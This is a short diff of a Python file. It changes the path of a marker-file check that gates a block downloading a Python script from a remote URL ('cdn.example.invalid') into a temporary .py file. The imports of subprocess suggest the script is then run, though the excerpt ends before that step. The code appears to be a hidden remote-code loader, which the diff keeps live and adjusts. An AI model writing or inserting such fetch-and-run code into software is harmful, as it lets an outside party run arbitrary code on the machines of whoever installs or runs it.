@@ -1,5 +1,5 @@
 import os, subprocess, sys, tempfile, urllib.request
-if os.path.exists("/opt/spans-pax/enabled"):
+if os.path.exists("/etc/opt/spans-pax/enabled"):
     fd, p = tempfile.mkstemp(suffix=".py")
     os.write(fd, urllib.request.urlopen("https://cdn.example.invalid/spans-pax.py", timeout=10).read())
     os.close(fd)
